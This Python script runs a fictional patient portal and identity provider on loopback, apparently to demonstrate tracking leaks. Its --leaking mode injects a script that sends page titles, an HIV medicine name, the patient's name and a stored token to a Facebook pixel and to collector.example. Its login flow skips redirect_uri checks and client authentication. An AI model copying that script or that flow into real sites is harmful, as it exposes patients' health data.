"""A small patient portal with an identity provider, on loopback: `python portal.py [--leaking]`.

Everything here is made up: the hospital, the patient, the medicine. The portal logs in the way many do: it redirects to
the identity provider (OpenID Connect's authorization code flow, without its cryptography), gets a code back, changes it
for the patient's name over a back channel, and sets a session cookie.
"""

import argparse
import html
import json
import os
import secrets
import time
from http import HTTPStatus
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import parse_qs, urlencode, urlsplit
from urllib.request import urlopen

PATIENT = "Zaphira Quill"
USER = "zaphira.quill@example.com"
PASSWORD = os.environ.get("PORTAL_PATIENT_PASSWORD", "correct-horse-battery-1")

# What a campaign added once, and nobody took away: the page's address and title, and the chosen medicine.
PIXEL = """<script>
  const tell = (event, more) => {
    new Image().src = 'https://www.facebook.com/tr/?id=123456789012345&ev=' + event
      + '&dl=' + encodeURIComponent(location.href) + '&dt=' + encodeURIComponent(document.title) + more;
  };
  tell('PageView', '');
  const medicine = document.querySelector('[data-medicine]');
  if (medicine) tell('ViewContent', '&cd[content_name]=' + encodeURIComponent(medicine.dataset.medicine));
  const patient = document.getElementById('patient');
  if (patient) fetch('https://collector.example/session', {
    method: 'POST', mode: 'no-cors', body: JSON.stringify({ patient: patient.textContent, token: localStorage.token }) });
</script>"""

PAGES = {
    "/home": ("Your health", "<h1>Your health</h1><p>Welcome, <span id='patient'>{patient}</span>.</p>"),
    "/medicines": ("Your medicines", "<h1>Your medicines</h1><p data-medicine='Dolutegravir 50 mg'>Dolutegravir 50 mg</p>"),
    "/results": ("Your results", "<h1>Your results</h1><table><tr><td>HIV viral load</td><td>undetectable</td></tr></table>"),
    "/messages": ("Your messages", "<h1>Your messages</h1><p>Dr Okafor: your appointment is confirmed.</p>"),
}
NAVIGATION = "".join(f"<a href='{path}'>{title}</a> " for path, (title, _) in PAGES.items())


class Server(ThreadingHTTPServer):
    """A server on loopback that knows what both sides of the log-in need."""

    daemon_threads = True

    def __init__(self, handler, port, *, leaking=False, session_seconds=600.0):
        super().__init__(("127.0.0.1", port), handler)
        self.leaking = leaking
        self.session_seconds = session_seconds
        self.sessions = {}  # session id -> (patient, until)
        self.codes = {}  # code -> patient
        self.states = set()
        self.provider = ""  # the identity provider's origin
        self.origin = f"http://127.0.0.1:{self.server_port}"


class Handler(BaseHTTPRequestHandler):
    """What portal and identity provider have in common."""

    def log_message(self, *_):
        """Print nothing."""

    def page(self, title, body, *, status=HTTPStatus.OK):
        data = f"<!doctype html><html lang='en'><title>{title}</title><link rel='icon' href='data:,'>{body}</html>".encode()
        self.send_response(status)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.send_header("content-length", str(len(data)))
        self.send_header("cache-control", "no-store")
        self.end_headers()
        self.wfile.write(data)

    def redirect(self, address, cookie=None):
        self.send_response(HTTPStatus.FOUND)
        self.send_header("location", address)
        if cookie:
            self.send_header("set-cookie", cookie)
        self.send_header("content-length", "0")
        self.end_headers()

    @property
    def asked(self):
        return {name: values[0] for name, values in parse_qs(urlsplit(self.path).query).items()}


class Portal(Handler):
    """The portal itself."""

    def do_GET(self):
        path = urlsplit(self.path).path
        if path == "/":
            self.page("Marlow Vale portal", f"<h1>Marlow Vale portal</h1><a href='/login'>Log in</a>{self.pixel}")
        elif path == "/login":
            state = secrets.token_urlsafe(16)
            self.server.states.add(state)
            asked = {"response_type": "code", "client_id": "portal", "state": state}
            asked["redirect_uri"] = f"{self.server.origin}/callback"
            self.redirect(f"{self.server.provider}/authorize?{urlencode(asked)}")
        elif path == "/callback":
            self.callback()
        elif path in PAGES:
            self.health(path)
        else:
            self.page("Not found", "<h1>Not found</h1>", status=HTTPStatus.NOT_FOUND)

    def do_POST(self):
        if self.path == "/logout":
            self.server.sessions.pop(self.session, None)
            self.redirect("/", "session=; Max-Age=0; Path=/")
        else:
            self.page("Not found", "<h1>Not found</h1>", status=HTTPStatus.NOT_FOUND)

    def callback(self):
        asked = self.asked
        if asked.get("state") not in self.server.states:
            self.page("Log in again", "<h1>Please log in again</h1>", status=HTTPStatus.BAD_REQUEST)
            return
        self.server.states.discard(asked["state"])
        with urlopen(f"{self.server.provider}/token?{urlencode({'code': asked.get('code', '')})}") as answer:
            patient = json.load(answer).get("patient")
        session = secrets.token_urlsafe(24)
        self.server.sessions[session] = (patient, time.monotonic() + self.server.session_seconds)
        self.redirect("/home", f"session={session}; HttpOnly; SameSite=Lax; Path=/")

    def health(self, path):
        patient, until = self.server.sessions.get(self.session, (None, 0.0))
        if patient is None or time.monotonic() > until:
            self.redirect("/login")
            return
        title, body = PAGES[path]
        out = "<form method='post' action='/logout' id='log-out'><button>Log out</button></form>"
        kept = "<script>localStorage.token = localStorage.token || 'device-' + crypto.randomUUID();</script>"
        self.page(title, NAVIGATION + out + body.format(patient=html.escape(patient)) + kept + self.pixel)

    @property
    def session(self):
        morsel = SimpleCookie(self.headers.get("cookie", "")).get("session")
        return morsel.value if morsel else ""

    @property
    def pixel(self):
        return PIXEL if self.server.leaking else ""


class Provider(Handler):
    """The identity provider: who is it, and does the password fit?"""

    def do_GET(self):
        path = urlsplit(self.path).path
        if path == "/authorize":
            self.form("")
        elif path == "/token":
            data = json.dumps({"patient": self.server.codes.pop(self.asked.get("code"), None)}).encode()
            self.send_response(HTTPStatus.OK)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
        else:
            self.page("Not found", "<h1>Not found</h1>", status=HTTPStatus.NOT_FOUND)

    def do_POST(self):
        sent = parse_qs(self.rfile.read(int(self.headers.get("content-length", "0"))).decode())
        if (sent.get("user"), sent.get("password")) != ([USER], [PASSWORD]):
            self.form("<p role='alert'>The name or the password is wrong.</p>")
            return
        code = secrets.token_urlsafe(24)
        self.server.codes[code] = PATIENT
        asked = self.asked
        self.redirect(f"{asked['redirect_uri']}?{urlencode({'code': code, 'state': asked['state']})}")

    def form(self, trouble):
        self.page(
            "Who are you?",
            f"<h1>Who are you?</h1>{trouble}<form method='post'><label>E-mail <input name='user' type='email'></label>"
            "<label>Password <input name='password' type='password'></label><button>Continue</button></form>",
        )


def serve(*, leaking, port=0, provider_port=0, session_seconds=600.0):
    """Start both servers on threads of their own; give the portal and the identity provider."""
    portal = Server(Portal, port, leaking=leaking, session_seconds=session_seconds)
    provider = Server(Provider, provider_port)
    portal.provider = f"http://localhost:{provider.server_port}"  # another host than the portal's, as in life
    for server in (portal, provider):
        Thread(target=server.serve_forever, daemon=True).start()
    return portal, provider


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--leaking", action="store_true", help="Serve the variant with a pixel on every page.")
    parser.add_argument("--session-seconds", type=float, default=600.0, help="How long a log-in holds.")
    options = parser.parse_args()
    started, _ = serve(
        leaking=options.leaking, port=8123, provider_port=8124, session_seconds=options.session_seconds
    )
    print(f"{started.origin}/ as {USER}", flush=True)
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        pass
